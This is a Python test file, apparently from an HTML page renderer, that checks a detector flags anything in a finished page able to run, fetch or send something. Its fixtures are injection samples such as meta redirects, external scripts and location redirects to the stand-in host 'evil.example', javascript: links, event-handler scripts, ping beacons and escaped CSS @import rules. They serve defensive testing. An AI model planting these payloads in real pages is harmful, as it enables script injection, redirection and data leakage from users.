"""Whatever is put into a finished page that could run, fetch or send something is named."""

from __future__ import annotations

from functools import cache
from pathlib import Path

import pytest

from conformance.page.samples import given
from editions import rich_edition
from hwrender.edition.model import EditionKind
from hwrender.formats.html.addresses import content_security_policy
from hwrender.formats.html.claims import read_page
from hwrender.formats.html.inert import inert
from hwrender.formats.html.page import page
from hwrender.markup import BrokenPageError
from reports import CASES, REPORTS, edition_of

HOST = "http://evil.example"


@cache
def good_page() -> str:
    return page(given(rich_edition()), inline_audio=None, inline_fonts=False)


def acting(made: str) -> list[str]:
    try:
        return list(inert(read_page(made, given(rich_edition()).artifacts)))
    except BrokenPageError as error:  # the page is refused as a whole
        return [str(error)]


@pytest.mark.parametrize("source", [*REPORTS, *CASES[:10]], ids=lambda source: source.stem)
def test_a_page_that_we_make_holds_only_what_we_make(source: Path) -> None:
    for kind in EditionKind:
        made = given(edition_of(source, kind))
        for inside in (False, True):
            text = page(made, inline_audio=b"ID3" if inside else None, inline_fonts=inside)
            assert list(inert(read_page(text, made.artifacts))) == []


IN_HEAD = {
    "another page at once": f'<meta http-equiv="refresh" content="0;url={HOST}">',
    "another page in capitals": f'<META HTTP-EQUIV="Refresh" CONTENT="0;url={HOST}">',
    "a cookie": '<meta http-equiv="set-cookie" content="a=b">',
    "another address for all links": f'<base href="{HOST}/">',
    "a style sheet from elsewhere": f'<link rel="stylesheet" href="{HOST}/a.css">',
    "a page fetched before it is asked for": f'<link rel="prefetch" href="{HOST}">',
    "a manifest": '<link rel="manifest" href="a.json">',
    "a script from elsewhere": f'<script src="{HOST}/a.js"></script>',
    "a script of its own": "<script>location='http://evil.example'</script>",
    "a module": '<script type="module">import "http://evil.example/a.js"</script>',
    "rules for speculation": '<script type="speculationrules">{}</script>',
    "letters in which a script hides": '<meta charset="utf-7">',
    "a policy by name": '<meta name="monetization" content="$evil">',
}
IN_BODY = {
    "a form": f'<form action="{HOST}"></form>',
    "a button that sends": f'<button formaction="{HOST}">Go</button>',
    "a button of a form": '<button type="submit">Go</button>',
    "a picture as a button": f'<input type="image" src="{HOST}/a.png">',
    "a frame": f'<iframe src="{HOST}"></iframe>',
    "a page written into a frame": '<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>',
    "an object": f'<object data="{HOST}/a.swf"></object>',
    "something embedded": f'<embed src="{HOST}/a.pdf">',
    "a picture from elsewhere": f'<img alt="" src="{HOST}/a.png">',
    "pictures to choose from": f'<img alt="" srcset="{HOST}/a.png 2x">',
    "a drawing with a script inside": '<svg><image href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    "a part of another drawing": f'<svg><use href="{HOST}/a.svg#a"/></svg>',
    "a link of a drawing": '<svg><a xlink:href="javascript:alert(1)">a</a></svg>',
    "a drawing that moves": '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    "markup inside a drawing": "<svg><foreignObject>a</foreignObject></svg>",
    "a title that is markup to a browser": "<svg><title>&lt;img onerror=alert(1)&gt;</title></svg>",
    "a style that is markup to a browser": "<svg><style>a{}</style></svg>",
    "a film": f'<video poster="{HOST}/a.png"></video>',
    "sound from elsewhere": f'<audio src="{HOST}/a.mp3"></audio>',
    "sound at once": "<audio autoplay></audio>",
    "captions from elsewhere": f'<audio><track src="{HOST}/a.vtt"></audio>',
    "a script when it is pressed": '<p onclick="alert(1)">a</p>',
    "a script when it is opened": '<details ontoggle="alert(1)" open><summary>a</summary></details>',
    "a style of its own": f'<p style="background:url({HOST})">a</p>',
    "a link that tells somebody": f'<a href="#Words" ping="{HOST}">a</a>',
    "a link that saves a file": '<a href="#Words" download="a.exe">a</a>',
    "a link in another window": '<a href="#Words" target="_blank">a</a>',
    "a background": f'<table background="{HOST}/a.png"></table>',
    "a template": "<template>a</template>",
    "words without script": "<noscript>a</noscript>",
    "an element of a script": "<x-a>a</x-a>",
    "a box to write in": '<p contenteditable="">a</p>',
    "formulas": '<math href="javascript:alert(1)">a</math>',
}


@pytest.mark.parametrize("name", IN_HEAD)
def test_what_acts_in_the_head_is_named(name: str) -> None:
    assert acting(good_page().replace("<title>", f"{IN_HEAD[name]}<title>", 1))


@pytest.mark.parametrize("name", IN_BODY)
def test_what_acts_among_the_words_is_named(name: str) -> None:
    assert acting(good_page().replace("</main>", f"{IN_BODY[name]}</main>", 1))


IN_STYLE = {
    "a picture": f"a{{background:url({HOST}/a.png)}}",
    "a picture in quotation marks": f"a{{background:url('{HOST}/a.png')}}",
    "a picture in capitals": f"a{{background:URL({HOST}/a.png)}}",
    "a picture in escapes": rf"a{{background:\75\72\6c({HOST}/a.png)}}",
    "a picture from a set": f'a{{background:image-set("{HOST}/a.png" 1x)}}',
    "a picture inside that acts": 'a{background:url("data:image/svg+xml;base64,AA==")}',
    "another sheet": f'@import "{HOST}/a.css";',
    "another sheet in escapes": rf'@\69mport "{HOST}/a.css";',
    "another sheet between remarks": f"/* \" */ @import '{HOST}'; /* \" */",
    "letters": f'@font-face{{src:url("{HOST}/a.woff2")}}',
    "a behaviour": "a{width:expression(alert(1))}",
    "a sheet that ends itself": "a{}<!--",
    "a string that never ends": 'a{content:"b\n@import x}',
}


@pytest.mark.parametrize("name", IN_STYLE)
def test_what_fetches_in_a_style_sheet_is_named_though_the_policy_covers_it(name: str) -> None:
    before = good_page()
    style = before.partition("<style>")[2].partition("</style>")[0]
    script = before.partition("<script>")[2].partition("</script>")[0]
    after = before.replace(style, IN_STYLE[name] + style, 1)
    old, new = (
        content_security_policy(each, script, has_inline_audio=False)
        for each in (style, IN_STYLE[name] + style)
    )
    assert any("style sheet" in found for found in acting(after.replace(old, new, 1)))


def test_a_script_that_was_changed_is_named_though_the_policy_covers_it() -> None:
    before = good_page()
    script = before.partition("<script>")[2].partition("</script>")[0]
    after = before.replace(script, f"{script};location='{HOST}'", 1)
    assert any("another script than ours" in found for found in acting(after))


@pytest.mark.parametrize(
    "made",
    [
        good_page().replace('<meta charset="utf-8">', "", 1),
        good_page().replace("<head>", "<head></head><head>", 1),
        good_page().replace("</head>", "<p>a</p></head>", 1),
        good_page() + "<p>a</p>",
    ],
    ids=["no letters", "two heads", "words in the head", "words after the end"],
)
def test_a_page_of_another_shape_is_named(made: str) -> None:
    assert acting(made)
